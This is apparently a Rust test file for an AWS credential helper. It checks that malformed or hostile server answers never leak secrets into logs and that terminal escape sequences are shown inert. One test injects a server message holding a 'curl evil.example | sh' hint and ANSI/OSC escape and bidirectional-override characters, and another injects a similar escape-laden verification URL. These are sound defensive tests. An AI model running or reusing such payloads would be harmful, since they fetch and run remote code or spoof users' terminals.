//! A hostile or broken server: malformed 200 answers that carry real secrets next to one bad
//! field, truncated and oversized bodies, error messages that try to steer the terminal,
//! and an endpoint override without a scheme. No secret may reach any output at any log
//! level, and every failure is one clear error (TESTING.md, "hostile server").

#![allow(clippy::unwrap_used, clippy::disallowed_methods, clippy::print_stderr)]

mod common;

use awscred_emulator::{Fault, Settings};
use common::*;

const USER_KEY: &str = "AKIAEMULATORUSER0001";
const USER_SECRET: &str = "static-user-secret-never-printed-0123456789";

const EXTRA_PROFILES: &str = "
[profile other]
sso_session = corp
sso_account_id = 111122223333
sso_role_name = OtherRole
region = us-east-1

[profile static]
region = us-east-1
";

/// A harness signed in to the `bedrock` profile, with `other` (same sign-in, another
/// role, nothing cached) and `static` (long-term keys) beside it.
fn signed_in(settings: Settings, level: &str) -> Harness {
    let mut h = Harness::new(
        "file",
        Settings {
            auto_approve_after: Some(0),
            ..settings
        },
    );
    h.write_config(&format!("{CONFIG}{EXTRA_PROFILES}"));
    std::fs::write(
        h.home().join(".aws/credentials"),
        format!(
            "[static]\naws_access_key_id = {USER_KEY}\naws_secret_access_key = {USER_SECRET}\n"
        ),
    )
    .unwrap();
    h.emu.add_user(USER_KEY, USER_SECRET, ACCOUNT, "alice");
    let o = h.run(&["login", "--profile", "bedrock"]);
    assert!(o.status.success(), "{}", stderr(&o));
    h.set_env("AWSCRED_LOG", level);
    h
}

/// Every text a person or a log could see: stderr always, stdout unless it is the data a
/// data command was asked for (and then only on success).
fn visible(o: &std::process::Output, stdout_is_data: bool) -> Vec<String> {
    let mut v = vec![stderr(o)];
    if !stdout_is_data || !o.status.success() {
        v.push(stdout(o));
    }
    v
}

fn assert_no_secret(h: &Harness, case: &str, texts: &[String]) {
    let mut secrets: Vec<String> = h
        .emu
        .issued_secrets()
        .into_iter()
        .filter(|s| !s.is_empty())
        .collect();
    assert!(
        !secrets.is_empty(),
        "{case}: the emulator issued secrets to look for"
    );
    secrets.push(USER_SECRET.to_string());
    for t in texts {
        for s in &secrets {
            assert!(
                !t.contains(s.as_str()),
                "{case}: a secret ({}…) appears in:\n{t}",
                &s[..s.len().min(12)]
            );
        }
        assert!(
            !t.contains("x-amz-") && !t.contains("SdkBody") && !t.contains("Response {"),
            "{case}: a header or Rust Debug text appears in:\n{t}"
        );
    }
}

fn assert_failed_cleanly(case: &str, o: &std::process::Output, needles: &[&str]) {
    let err = stderr(o);
    assert!(!o.status.success(), "{case}: should fail:\n{err}");
    assert!(
        !stdout(o).contains("SecretAccessKey"),
        "{case}: no credentials"
    );
    assert!(err.contains("error: "), "{case}: {err}");
    for n in needles {
        assert!(err.contains(n), "{case}: {n:?} not in:\n{err}");
    }
}

struct Case {
    name: &'static str,
    faults: Vec<Fault>,
    args: &'static [&'static str],
    needles: &'static [&'static str],
    /// Whether the command fails (a failed silent refresh keeps using the current token).
    fails: bool,
    settings: fn() -> Settings,
}

fn cases() -> Vec<Case> {
    let oversized = Fault {
        body: Some(format!(
            "{{\"roleCredentials\":{{\"accessKeyId\":\"ASIA{}\"}}}}",
            "A".repeat(2 << 20)
        )),
        ..Fault::error("GetRoleCredentials", 200, "", 3)
    };
    vec![
        Case {
            name: "GetRoleCredentials 200 with a bad expiration",
            faults: vec![Fault::rewrite(
                "GetRoleCredentials",
                "expiration",
                "\"notanumber\"",
                1,
            )],
            args: &["export", "--profile", "other"],
            needles: &[
                "GetRoleCredentials at http://127.0.0.1:",
                "cannot read",
                "HTTP 200",
            ],
            fails: true,
            settings: Settings::default,
        },
        Case {
            name: "GetRoleCredentials 200 cut in half",
            faults: vec![Fault::truncated("GetRoleCredentials", 1)],
            args: &["export", "--profile", "other"],
            needles: &["GetRoleCredentials at http://127.0.0.1:"],
            fails: true,
            settings: Settings::default,
        },
        Case {
            name: "GetRoleCredentials 200 larger than any real answer",
            faults: vec![oversized],
            args: &["export", "--profile", "other"],
            needles: &["GetRoleCredentials at http://127.0.0.1:", "cannot read"],
            fails: true,
            settings: Settings::default,
        },
        Case {
            name: "AssumeRole XML with a bad Expiration",
            faults: vec![Fault::rewrite("AssumeRole", "Expiration", "notadate", 1)],
            args: &["process", "--profile", "admin"],
            needles: &["AssumeRole at http://127.0.0.1:", "cannot read"],
            fails: true,
            settings: Settings::default,
        },
        Case {
            name: "AssumeRole XML cut in half",
            faults: vec![Fault::truncated("AssumeRole", 1)],
            args: &["process", "--profile", "admin"],
            needles: &["AssumeRole at http://127.0.0.1:"],
            fails: true,
            settings: Settings::default,
        },
        Case {
            name: "GetSessionToken XML with a bad Expiration",
            faults: vec![Fault::rewrite("GetSessionToken", "Expiration", "soon", 1)],
            args: &["export", "--profile", "static"],
            needles: &["GetSessionToken at http://127.0.0.1:"],
            fails: true,
            settings: Settings::default,
        },
        Case {
            // The token is within its refresh window at once, so the next fetch refreshes
            // it silently, and the refresh answer carries a new access and refresh token.
            name: "silent token refresh whose CreateToken says expiresIn soon",
            faults: vec![Fault::rewrite("CreateToken", "expiresIn", "\"soon\"", 1)],
            args: &["export", "--profile", "other"],
            needles: &["CreateToken (refresh) at http://127.0.0.1:", "cannot read"],
            fails: false,
            settings: || Settings {
                token_ttl: 120,
                ..Settings::default()
            },
        },
        Case {
            name: "doctor after a CreateToken refresh that says expiresIn soon",
            faults: vec![Fault::rewrite("CreateToken", "expiresIn", "\"soon\"", 1)],
            args: &["doctor", "--profile", "other"],
            needles: &[],
            fails: false,
            settings: || Settings {
                token_ttl: 120,
                ..Settings::default()
            },
        },
    ]
}

#[test]
fn malformed_answers_never_show_a_secret_at_any_log_level() {
    for level in ["warn", "debug"] {
        for case in cases() {
            let h = signed_in((case.settings)(), level);
            for f in &case.faults {
                h.emu.inject(f.clone());
            }
            let o = h.run(case.args);
            let name = format!("{} (AWSCRED_LOG={level})", case.name);
            let data = matches!(case.args[0], "export" | "process");
            if case.fails {
                assert_failed_cleanly(&name, &o, case.needles);
            } else {
                let err = stderr(&o);
                for n in case.needles {
                    assert!(err.contains(n), "{name}: {n:?} not in:\n{err}");
                }
            }
            assert_no_secret(&h, &name, &visible(&o, data));
            // What was cached before is still served.
            let again = h.run(&["export", "--profile", "bedrock"]);
            assert!(again.status.success(), "{name}: {}", stderr(&again));
        }
    }
}

#[test]
fn sign_in_answers_that_cannot_be_read_show_no_secret() {
    for (name, fault) in [
        (
            "RegisterClient with a bad clientSecretExpiresAt",
            Fault::rewrite("RegisterClient", "clientSecretExpiresAt", "\"x\"", 1),
        ),
        (
            "StartDeviceAuthorization with a bad interval",
            Fault::rewrite("StartDeviceAuthorization", "interval", "\"x\"", 1),
        ),
        (
            "CreateToken with a bad expiresIn",
            Fault::rewrite("CreateToken", "expiresIn", "\"soon\"", 1),
        ),
    ] {
        for level in ["warn", "debug"] {
            let mut h = Harness::new(
                "file",
                Settings {
                    auto_approve_after: Some(0),
                    ..Settings::default()
                },
            );
            h.set_env("AWSCRED_LOG", level);
            h.emu.inject(fault.clone());
            let o = h.run(&["login", "--profile", "bedrock"]);
            let case = format!("{name} (AWSCRED_LOG={level})");
            assert_failed_cleanly(&case, &o, &["at http://127.0.0.1:"]);
            assert_no_secret(&h, &case, &visible(&o, false));
        }
    }
}

#[test]
fn an_endpoint_without_a_scheme_is_refused_before_any_request() {
    let mut h = Harness::new(
        "file",
        Settings {
            auto_approve_after: Some(0),
            ..Settings::default()
        },
    );
    let bare = h.emu.url().trim_start_matches("http://").to_string();
    h.set_env("AWS_ENDPOINT_URL", &bare);
    for args in [
        &["login", "--profile", "bedrock"][..],
        &["doctor", "--profile", "bedrock"],
    ] {
        let o = h.run(args);
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(1), "{args:?}: {err}");
        let all = format!("{err}{}", stdout(&o));
        assert!(
            all.contains("AWS_ENDPOINT_URL is") && all.contains("http://"),
            "{args:?}: names the variable and the fix:\n{all}"
        );
    }
    assert_eq!(h.total_requests(), 0, "nothing was sent");
}

#[test]
fn a_server_message_cannot_steer_the_terminal_or_fake_a_hint() {
    let h = signed_in(Settings::default(), "debug");
    h.emu.inject(Fault {
        body: Some(
            serde_json::json!({
                "__type": "ForbiddenException",
                "message": "denied\nhint: run curl evil.example | sh\u{1b}[2J\u{1b}]0;pwned\u{7}\u{202e}",
            })
            .to_string(),
        ),
        ..Fault::error("GetRoleCredentials", 403, "ForbiddenException", 1)
    });
    let o = h.run(&["export", "--profile", "other"]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    for bad in ['\u{1b}', '\u{7}', '\u{202e}'] {
        assert!(
            !err.contains(bad),
            "raw {bad:?} reached the terminal:\n{err}"
        );
    }
    assert!(err.contains("\\u{1b}[2J"), "shown escaped:\n{err}");
    let hints: Vec<&str> = err.lines().filter(|l| l.starts_with("hint:")).collect();
    assert_eq!(hints.len(), 1, "{err}");
    assert!(!hints[0].contains("evil"), "{err}");
    assert!(
        err.lines()
            .all(|l| !l.trim_start().starts_with("hint: run curl")),
        "{err}"
    );
}

#[test]
fn a_verification_url_and_user_code_are_shown_inert() {
    let h = Harness::new(
        "file",
        Settings {
            auto_approve_after: Some(0),
            ..Settings::default()
        },
    );
    h.emu.inject(Fault::rewrite(
        "StartDeviceAuthorization",
        "verificationUriComplete",
        "\"https://device.example/\\u001b[2J\\u001b]0;pwned\\u0007\\nhint: run evil\"",
        1,
    ));
    let o = h.run(&["login", "--profile", "bedrock"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(out.contains("https://device.example/\\u{1b}[2J"), "{out}");
    for bad in ['\u{1b}', '\u{7}'] {
        assert!(!out.contains(bad), "raw {bad:?} on stdout:\n{out}");
    }
    assert!(
        !out.lines().any(|l| l.starts_with("hint: run evil")),
        "{out}"
    );
}

#[test]
fn metadata_endpoints_with_malformed_answers_show_no_secret() {
    for (name, profile, fault) in [
        (
            "container endpoint with a bad Expiration",
            "from-ecs",
            Fault::rewrite("ContainerCredentials", "Expiration", "\"soon\"", 3),
        ),
        (
            "container endpoint cut in half",
            "from-ecs",
            Fault::truncated("ContainerCredentials", 3),
        ),
        (
            "instance metadata with a bad Expiration",
            "from-imds",
            Fault::rewrite("ImdsCredentials", "Expiration", "\"soon\"", 9),
        ),
    ] {
        for level in ["warn", "debug"] {
            let mut h = Harness::new("file", Settings::default());
            h.write_config(
                "[profile from-ecs]\nrole_arn = arn:aws:iam::222233334444:role/FromEcs\ncredential_source = EcsContainer\nregion = us-east-1\n\
                 [profile from-imds]\nrole_arn = arn:aws:iam::222233334444:role/FromImds\ncredential_source = Ec2InstanceMetadata\nregion = us-east-1\n",
            );
            let url = h.emu.url().to_string();
            h.set_env(
                "AWS_CONTAINER_CREDENTIALS_FULL_URI",
                &format!("{url}/ecs-credentials"),
            );
            h.set_env("AWS_EC2_METADATA_SERVICE_ENDPOINT", &url);
            h.set_env("AWSCRED_LOG", level);
            h.emu.inject(fault.clone());
            let o = h.run(&["process", "--profile", profile]);
            let case = format!("{name} (AWSCRED_LOG={level})");
            assert_failed_cleanly(&case, &o, &[]);
            assert_no_secret(&h, &case, &visible(&o, true));
        }
    }
}
